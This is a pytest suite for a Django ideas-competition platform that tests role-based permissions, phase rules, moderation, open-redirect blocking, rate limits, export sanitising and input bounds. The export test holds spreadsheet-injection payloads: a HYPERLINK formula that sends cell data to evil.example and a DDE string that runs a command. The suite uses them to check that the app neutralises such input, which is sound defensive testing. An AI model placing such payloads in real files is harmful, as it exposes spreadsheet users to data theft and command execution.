"""Issue 8 for open calls: rights derived from current roles, phase rules, moderation rights, safe
redirects, rate limits, formula-safe exports and bounded numbers."""

import csv
import io
from datetime import timedelta

import pytest
from django.core.exceptions import PermissionDenied
from django.utils import timezone
from openpyxl import load_workbook

from actors.models import ClusterRole
from core.policy import allowed
from ideas import services
from ideas.models import ACTIONS, PHASE_ALLOWS, Call, Comment, Idea, Phase, Score
from ideas.rules import phase_allows
from ideas.services import RuleError
from tests.factories import ClusterRoleFactory, MembershipFactory, UserFactory

from .factories import CallFactory, IdeaFactory, schedule, set_phase

pytestmark = pytest.mark.django_db
Status = Idea.Status


def _office_manager(call):
    """A further current manager of the cluster the call's organiser runs."""
    cluster = call.organiser.managed_clusters.get()
    return ClusterRoleFactory(cluster=cluster, role=ClusterRole.Role.MANAGER).user


# --- 1. rights come from current roles -------------------------------------------------------


def test_a_manager_whose_role_is_deleted_loses_the_call_at_once(client_for):
    call = CallFactory(phase=Phase.VOTING)
    manager = _office_manager(call)
    client = client_for(manager)
    pages = [
        f"/calls/{call.slug}/manage/",
        f"/calls/{call.slug}/edit/",
        f"/calls/{call.slug}/export/ideas.csv",
        f"/calls/{call.slug}/export/scores.xlsx",
    ]
    for url in pages:
        assert client.get(url).status_code == 200, url
    ClusterRole.objects.filter(user=manager).delete()
    for url in pages:
        assert client.get(url).status_code == 403, url
    partner = ClusterRoleFactory(role=ClusterRole.Role.MANAGER)
    MembershipFactory(cluster=partner.cluster, organisation=call.organiser)
    response = client.post(f"/calls/{call.slug}/managers/", {"email": partner.user.email})
    assert response.status_code == 403 and not call.managers.exists()
    assert client.post(f"/calls/{call.slug}/advance/").status_code == 403
    with pytest.raises(PermissionDenied):
        services.add_manager(manager, call, partner.user)


def test_the_creator_of_a_call_loses_it_with_the_role(client_for):
    call = CallFactory(phase=Phase.VOTING)
    creator = client_for(call.created_by)
    urls = [f"/calls/{call.slug}/manage/", f"/calls/{call.slug}/edit/",
            f"/calls/{call.slug}/export/votes.csv"]  # fmt: skip
    assert [creator.get(url).status_code for url in urls] == [200, 200, 200]
    ClusterRole.objects.filter(user=call.created_by).delete()
    assert [creator.get(url).status_code for url in urls] == [403, 403, 403]
    colleague = UserFactory()
    assert (
        creator.post(f"/calls/{call.slug}/managers/", {"email": colleague.email}).status_code == 403
    )
    assert not call.managers.exists()
    assert client_for(colleague).get(urls[0]).status_code == 403


def test_the_creator_field_and_the_co_manager_list_grant_nothing_without_a_current_role(
    client_for, client
):
    call = CallFactory(phase=Phase.SUBMISSION, is_published=False)
    creator = call.created_by
    partner = ClusterRoleFactory(role=ClusterRole.Role.MANAGER)
    MembershipFactory(cluster=partner.cluster, organisation=call.organiser)
    services.add_manager(creator, call, partner.user)
    # both manage the draft call, in the web pages and in the API
    for user in (creator, partner.user):
        assert client_for(user).get(f"/calls/{call.slug}/manage/").status_code == 200
        slugs = [c["slug"] for c in client_for(user).get("/api/calls/").json()["items"]]
        assert call.slug in slugs
        assert client_for(user).get(f"/api/calls/{call.slug}/ideas").status_code == 200
    ClusterRole.objects.filter(user__in=[creator, partner.user]).delete()
    for user in (creator, partner.user):
        c = client_for(user)
        assert c.get(f"/calls/{call.slug}/manage/").status_code == 404  # a draft: not even seen
        assert call.slug not in [i["slug"] for i in c.get("/api/calls/").json()["items"]]
        assert c.get(f"/api/calls/{call.slug}/ideas").status_code == 404
    call.is_published = True
    call.save()
    for user in (creator, partner.user):
        assert client_for(user).get(f"/calls/{call.slug}/manage/").status_code == 403
        assert not allowed(user, "ideas.manage_call", call)


def test_a_partner_cluster_manager_counts_only_while_the_organiser_is_a_member(client_for):
    call = CallFactory(phase=Phase.VOTING)
    partner = ClusterRoleFactory(role=ClusterRole.Role.MANAGER)
    membership = MembershipFactory(cluster=partner.cluster, organisation=call.organiser)
    services.add_manager(call.created_by, call, partner.user)
    assert allowed(partner.user, "ideas.manage_call", call)
    membership.status = "ended"
    membership.save()
    assert not allowed(partner.user, "ideas.manage_call", call)
    assert client_for(partner.user).get(f"/calls/{call.slug}/manage/").status_code == 403


def test_managers_of_other_clusters_and_of_member_organisations_clusters_cannot_manage():
    call = CallFactory(phase=Phase.VOTING)
    other = ClusterRoleFactory(role=ClusterRole.Role.MANAGER).user
    assert not allowed(other, "ideas.manage_call", call)
    # the organiser is a member of another cluster: its manager gets no rights from that alone
    member_cluster_manager = ClusterRoleFactory(role=ClusterRole.Role.MANAGER)
    MembershipFactory(cluster=member_cluster_manager.cluster, organisation=call.organiser)
    assert not allowed(member_cluster_manager.user, "ideas.manage_call", call)
    assert allowed(UserFactory(is_superuser=True), "ideas.manage_call", call)


def test_a_manager_can_only_name_an_organiser_whose_cluster_they_manage(client_for):
    call = CallFactory(phase=Phase.SUBMISSION)
    manager = call.created_by
    foreign = MembershipFactory().organisation  # a member organisation of some other cluster
    call.organiser = foreign
    with pytest.raises(RuleError):
        services.save_call(manager, call, ["Frage?"], [("Innovation", 1)])
    assert Call.objects.get(pk=call.pk).organiser != foreign


# --- 2. editing a published idea goes back to moderation -------------------------------------


def test_editing_a_published_idea_sends_it_back_to_moderation(client_for, client):
    call = CallFactory(phase=Phase.SUBMISSION)
    q1, q2 = call.questions.all()
    idea = IdeaFactory(call=call, title="Reallabor Wasserstoff")
    for question in (q1, q2):
        idea.answers.create(question=question, text="Antwort")
    author = client_for(idea.author)
    page = author.get(f"/calls/ideas/{idea.pk}/edit/").content.decode()
    assert "geht sie zurück in die Moderation" in page
    data = {"title": "Reallabor Wasserstoff", "summary": idea.summary,
            f"q_{q1.pk}": "Antwort", f"q_{q2.pk}": "Antwort", "save": "1"}  # fmt: skip
    # saving without a change keeps the idea published
    author.post(f"/calls/ideas/{idea.pk}/edit/", data)
    idea.refresh_from_db()
    assert idea.status == Status.PUBLISHED
    response = author.post(
        f"/calls/ideas/{idea.pk}/edit/", {**data, "title": "Kaufen Sie bei uns!"}, follow=True
    )
    assert "wieder in der Moderation" in response.content.decode()
    idea.refresh_from_db()
    assert idea.status == Status.SUBMITTED and idea.title == "Kaufen Sie bei uns!"
    # gone from the public pages and the API until a manager publishes it again
    assert client_for(None).get(idea.get_absolute_url()).status_code == 404
    assert "Kaufen Sie" not in client_for(None).get(f"/calls/{call.slug}/ideas/").content.decode()
    assert client.get(f"/api/calls/{call.slug}/ideas").json()["items"] == []
    manage = client_for(call.created_by).get(f"/calls/{call.slug}/manage/").content.decode()
    assert "Kaufen Sie bei uns!" in manage
    services.moderate_idea(call.created_by, idea, publish=True)
    assert client_for(None).get(idea.get_absolute_url()).status_code == 200


# --- 3. phases declare what they allow --------------------------------------------------------


def test_the_phase_table_is_what_the_rules_ask():
    assert ACTIONS == {"submit", "comment", "vote", "shortlist", "score", "award", "implement"}
    assert set(PHASE_ALLOWS) == set(Phase.values)
    call = CallFactory(phase=Phase.SUBMISSION)
    for phase in (Phase.SUBMISSION, Phase.VOTING, Phase.JURY, Phase.RESULTS, Phase.IMPLEMENTATION):
        set_phase(call, phase)
        for action in ACTIONS:
            assert phase_allows(action).test(None, call) == (action in PHASE_ALLOWS[phase])


def _refused(fn, *args, **kwargs):
    with pytest.raises((RuleError, PermissionDenied)):
        fn(*args, **kwargs)


def test_submit_outside_the_submission_phase_is_refused():
    call = CallFactory(phase=Phase.VOTING)
    author = UserFactory()
    _refused(
        services.save_idea, author, Idea(call=call, author=author, title="Zu spät"), {}, [], True
    )
    assert not Idea.objects.exists()


def test_comment_outside_its_phases_is_refused():
    idea = IdeaFactory(call=CallFactory(phase=Phase.VOTING))
    long_ago = timezone.now() - timedelta(days=60)
    Call.objects.filter(pk=idea.call_id).update(**schedule(Phase.IMPLEMENTATION, now=long_ago))
    idea.call.refresh_from_db()
    assert idea.call.current_phase == Phase.CLOSED
    _refused(services.add_comment, UserFactory(), idea, "Noch ein Gedanke")
    assert not Comment.objects.exists()


def test_vote_outside_the_voting_phase_is_refused():
    idea = IdeaFactory(call=CallFactory(phase=Phase.SUBMISSION))
    _refused(services.cast_vote, UserFactory(), idea)
    set_phase(idea.call, Phase.JURY)
    _refused(services.cast_vote, UserFactory(), idea)
    assert idea.votes.count() == 0


def test_shortlist_outside_its_phases_or_after_the_first_score_is_refused():
    call = CallFactory(phase=Phase.RESULTS)
    idea = IdeaFactory(call=call)
    _refused(services.set_shortlist_override, call.created_by, idea, Idea.Override.INCLUDE)
    _refused(services.confirm_shortlist, call.created_by, call)
    # in the jury phase the shortlist can be fixed until the first juror scores
    set_phase(call, Phase.JURY)
    services.confirm_shortlist(call.created_by, call)
    idea.refresh_from_db()
    assert idea.status == Status.SHORTLISTED
    juror = services.assign_juror(call.created_by, call, UserFactory(), "business")
    criterion = call.criteria.first()
    services.save_scores(juror.user, idea, {criterion.pk: (3, "")})
    assert Score.objects.exists()
    _refused(services.set_shortlist_override, call.created_by, idea, Idea.Override.EXCLUDE)
    _refused(services.confirm_shortlist, call.created_by, call)
    idea.refresh_from_db()
    assert idea.shortlist_override == "" and idea.status == Status.SHORTLISTED
    assert not allowed(call.created_by, "ideas.shortlist", call)


def test_shortlist_change_through_the_view_after_scoring_is_refused(client_for):
    call = CallFactory(phase=Phase.JURY)
    idea = IdeaFactory(call=call, status=Status.SHORTLISTED)
    juror = services.assign_juror(call.created_by, call, UserFactory(), "business")
    services.save_scores(juror.user, idea, {call.criteria.first().pk: (3, "")})
    client = client_for(call.created_by)
    response = client.post(
        f"/calls/{call.slug}/shortlist/{idea.pk}/", {"override": "exclude"}, follow=True
    )
    assert "Die Jury hat mit der Bewertung begonnen" in response.content.decode()
    idea.refresh_from_db()
    assert idea.shortlist_override == ""


def test_score_outside_the_jury_phase_is_refused():
    call = CallFactory(phase=Phase.JURY)
    idea = IdeaFactory(call=call, status=Status.SHORTLISTED)
    juror = services.assign_juror(call.created_by, call, UserFactory(), "business")
    set_phase(call, Phase.VOTING)
    _refused(services.save_scores, juror.user, idea, {call.criteria.first().pk: (3, "")})
    _refused(services.submit_scores, juror.user, call)
    assert not Score.objects.exists()
    # and nobody without a jury seat scores
    set_phase(call, Phase.JURY)
    _refused(services.save_scores, call.created_by, idea, {call.criteria.first().pk: (3, "")})


def test_award_outside_its_phases_is_refused():
    call = CallFactory(phase=Phase.VOTING)
    idea = IdeaFactory(call=call, status=Status.SHORTLISTED)
    _refused(services.set_award, call.created_by, idea, "1. Preis")
    _refused(services.publish_results, call.created_by, call)
    idea.refresh_from_db()
    assert idea.award == ""


# --- 4. moderation rights ---------------------------------------------------------------------


def test_only_call_managers_hide_and_unhide_comments(client_for):
    idea = IdeaFactory()
    comment = services.add_comment(UserFactory(), idea, "Kauft bei uns!")
    for user in (
        UserFactory(),
        comment.author,
        idea.author,
        ClusterRoleFactory(role=ClusterRole.Role.MANAGER).user,
    ):
        response = client_for(user).post(
            f"/calls/comments/{comment.pk}/moderate/", {"action": "hide"}
        )
        assert response.status_code == 403
        with pytest.raises(PermissionDenied):
            services.moderate_comment(user, comment, hide=True)
    comment.refresh_from_db()
    assert not comment.is_hidden
    client_for(idea.call.created_by).post(
        f"/calls/comments/{comment.pk}/moderate/", {"action": "hide"}
    )
    comment.refresh_from_db()
    assert comment.is_hidden
    # unhiding is moderation too
    response = client_for(UserFactory()).post(
        f"/calls/comments/{comment.pk}/moderate/", {"action": "show"}
    )
    assert response.status_code == 404  # hidden comments do not exist for others
    comment.refresh_from_db()
    assert comment.is_hidden


def test_reporting_a_hidden_comment_is_refused(client_for):
    idea = IdeaFactory()
    comment = services.add_comment(UserFactory(), idea, "Werbung")
    services.moderate_comment(idea.call.created_by, comment, hide=True, note="Werbung")
    reporter = UserFactory()
    response = client_for(reporter).post(
        f"/calls/comments/{comment.pk}/report/", {"reason": "Spam"}
    )
    assert response.status_code == 404
    with pytest.raises(PermissionDenied):
        services.report_comment(reporter, comment, "Spam")
    # managers see the hidden comment, but it is not reported again
    with pytest.raises(PermissionDenied):
        services.report_comment(idea.call.created_by, comment, "Spam")
    assert not comment.reports.exists()


def test_only_managers_mark_ideas_implemented_and_only_after_the_results(client_for):
    call = CallFactory(phase=Phase.RESULTS)
    idea = IdeaFactory(call=call, status=Status.AWARDED, award="1. Preis")
    # results not published yet: refused even for the manager
    _refused(services.mark_implemented, call.created_by, idea, "Pilot")
    call.results_published_at = call.results_on
    call.save()
    for user in (UserFactory(), idea.author):
        response = client_for(user).post(
            f"/calls/ideas/{idea.pk}/implemented/", {"note": "Erledigt"}
        )
        assert response.status_code == 403
    idea.refresh_from_db()
    assert idea.status == Status.AWARDED
    # the jury phase does not allow it
    set_phase(call, Phase.JURY)
    idea = Idea.objects.select_related("call").get(pk=idea.pk)
    _refused(services.mark_implemented, call.created_by, idea, "Pilot")
    set_phase(call, Phase.IMPLEMENTATION)
    idea = Idea.objects.select_related("call").get(pk=idea.pk)
    services.mark_implemented(call.created_by, idea, "Pilot mit drei Betrieben")
    assert Idea.objects.get(pk=idea.pk).status == Status.IMPLEMENTED


# --- 5. no open redirect ----------------------------------------------------------------------


def test_next_never_leads_off_the_site(client_for):
    call = CallFactory(phase=Phase.VOTING)
    idea = IdeaFactory(call=call)
    submitted = IdeaFactory(call=call, status=Status.SUBMITTED)
    comment = services.add_comment(UserFactory(), idea, "Hallo")
    evil = "https://evil.example/"
    voter = client_for(UserFactory())
    response = voter.post(f"/calls/ideas/{idea.pk}/vote/", {"action": "vote", "next": evil})
    assert response.status_code == 302 and response.url == idea.get_absolute_url()
    manager = client_for(call.created_by)
    response = manager.post(
        f"/calls/comments/{comment.pk}/moderate/", {"action": "hide", "next": evil}
    )
    assert response.status_code == 302 and not response.url.startswith(evil)
    assert response.url.startswith(idea.get_absolute_url())
    response = manager.post(
        f"/calls/ideas/{submitted.pk}/moderate/", {"action": "publish", "next": "//evil.example/x"}
    )
    assert response.status_code == 302 and response.url == submitted.get_absolute_url()
    # a local next is kept
    response = manager.post(
        f"/calls/ideas/{submitted.pk}/moderate/",
        {"action": "publish", "next": f"/calls/{call.slug}/manage/#moderation"},
    )
    assert response.url == f"/calls/{call.slug}/manage/#moderation"


# --- 7. rate limits ---------------------------------------------------------------------------


@pytest.fixture
def small_limits(rate_limits):
    rate_limits.OPENREGION_RATE_LIMITS = {
        "comment": (2, 600),
        "vote": (2, 600),
        "report": (1, 600),
        "idea": (1, 3600),
    }
    return rate_limits


def test_comments_are_rate_limited(client_for, small_limits):
    idea = IdeaFactory()
    client = client_for(UserFactory())
    for n in range(2):
        assert client.post(f"/calls/ideas/{idea.pk}/comment/", {"text": f"K{n}"}).status_code == 302
    response = client.post(f"/calls/ideas/{idea.pk}/comment/", {"text": "K3"})
    assert response.status_code == 429 and "Retry-After" in response
    assert idea.comments.count() == 2


def test_votes_are_rate_limited(client_for, small_limits):
    call = CallFactory(phase=Phase.VOTING)
    ideas = IdeaFactory.create_batch(3, call=call)
    client = client_for(UserFactory())
    for idea in ideas[:2]:
        assert client.post(f"/calls/ideas/{idea.pk}/vote/", {"action": "vote"}).status_code == 302
    assert client.post(f"/calls/ideas/{ideas[2].pk}/vote/", {"action": "vote"}).status_code == 429
    assert call.votes.count() == 2


def test_comment_reports_are_rate_limited(client_for, small_limits):
    idea = IdeaFactory()
    first, second = (services.add_comment(UserFactory(), idea, t) for t in ("A", "B"))
    client = client_for(UserFactory())
    assert client.post(f"/calls/comments/{first.pk}/report/", {"reason": "x"}).status_code == 302
    assert client.post(f"/calls/comments/{second.pk}/report/", {"reason": "x"}).status_code == 429


def test_idea_submissions_are_rate_limited(client_for, small_limits):
    call = CallFactory(phase=Phase.SUBMISSION)
    client = client_for(UserFactory())
    assert (
        client.post(f"/calls/{call.slug}/submit/", {"title": "Eins", "draft": "1"}).status_code
        == 302
    )
    response = client.post(f"/calls/{call.slug}/submit/", {"title": "Zwei", "draft": "1"})
    assert response.status_code == 429
    assert call.ideas.count() == 1


# --- 8. exports neutralise formulas -----------------------------------------------------------


def test_exports_neutralise_formulas_in_csv_and_xlsx(client_for):
    call = CallFactory(phase=Phase.JURY)
    title = '=HYPERLINK("https://evil.example/?x="&A1,"Klick")'
    award = "\t=cmd|' /C calc'!A0"  # a tab or a blank in front does not make it text
    idea = IdeaFactory(call=call, status=Status.SHORTLISTED, title=title, award=award)
    IdeaFactory(call=call, status=Status.SHORTLISTED, title=" =1+1")
    client = client_for(call.created_by)
    for kind in ("ideas", "votes"):
        text = client.get(f"/calls/{call.slug}/export/{kind}.csv").content.decode()
        rows = {r[0]: r for r in csv.reader(io.StringIO(text.lstrip("\ufeff")))}
        assert rows[str(idea.pk)][1] == "'" + title
        assert " =1+1" not in {r[1] for r in rows.values()}
        content = client.get(f"/calls/{call.slug}/export/{kind}.xlsx").content
        sheet = load_workbook(io.BytesIO(content)).active
        cells = {str(row[0].value): row for row in sheet.iter_rows()}
        assert cells[str(idea.pk)][1].value == "'" + title
        assert cells[str(idea.pk)][1].data_type == "s"
        assert all(not str(row[1].value).lstrip().startswith("=") for row in cells.values())
    text = client.get(f"/calls/{call.slug}/export/ideas.csv").content.decode()
    rows = {r[0]: r for r in csv.reader(io.StringIO(text.lstrip("\ufeff")))}
    assert rows[str(idea.pk)][-1] == "'" + award


# --- 9. bounded numbers -----------------------------------------------------------------------


def _call_data(call, **overrides):
    dates = {k: v.strftime("%Y-%m-%dT%H:%M") for k, v in schedule(Phase.SUBMISSION).items()}
    return {
        "title": "Offene Region", "description": "Ideen", "organiser": call.organiser.pk,
        "is_published": "on", **dates, "max_file_mb": 5, "shortlist_size": 30,
        "scale_min": 1, "scale_max": 5, "questions": "Was?", "criteria": "Innovation | 1",
        **overrides,
    }  # fmt: skip


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("shortlist_size", 32767, "höchstens 200 Ideen"),
        ("shortlist_size", 0, "mindestens einen Platz"),
        ("vote_budget", 30000, "höchstens 1000 Stimmen"),
        ("max_file_mb", 500, "höchstens 50 MB"),
        ("scale_max", 32767, "höchstens 100"),
        ("scale_min", 200, "höchstens 99"),
        ("questions", "\n".join(f"Frage {n}?" for n in range(21)), "höchstens 20 Leitfragen"),
        ("criteria", "\n".join(f"K{n} | 1" for n in range(21)), "höchstens 20 Jurykriterien"),
    ],
)
def test_numbers_that_size_work_are_bounded(client_for, field, value, message):
    call = CallFactory(phase=Phase.SUBMISSION)
    response = client_for(call.created_by).post(
        f"/calls/{call.slug}/edit/", _call_data(call, **{field: value})
    )
    assert response.status_code == 200
    assert message in response.content.decode()
    call.refresh_from_db()
    assert call.title != "Offene Region"


def test_page_numbers_are_bounded(client_for, client):
    call = CallFactory(phase=Phase.VOTING)
    IdeaFactory(call=call)
    huge = "9" * 30
    assert client.get(f"/calls/{call.slug}/ideas/?page={huge}").status_code == 200
    assert client.get(f"/calls/{call.slug}/ideas/?page=abc").status_code == 200
    for url in ("/api/calls/", f"/api/calls/{call.slug}/ideas"):
        assert client.get(f"{url}?page=10001").status_code == 422
        assert client.get(f"{url}?page={huge}").status_code == 422
        assert client.get(f"{url}?page=2").status_code == 200


def test_non_numeric_idea_in_the_jury_form_gives_404(client_for):
    call = CallFactory(phase=Phase.JURY)
    juror = services.assign_juror(call.created_by, call, UserFactory(), "business")
    response = client_for(juror.user).post(f"/calls/{call.slug}/review/", {"idea": "abc"})
    assert response.status_code == 404
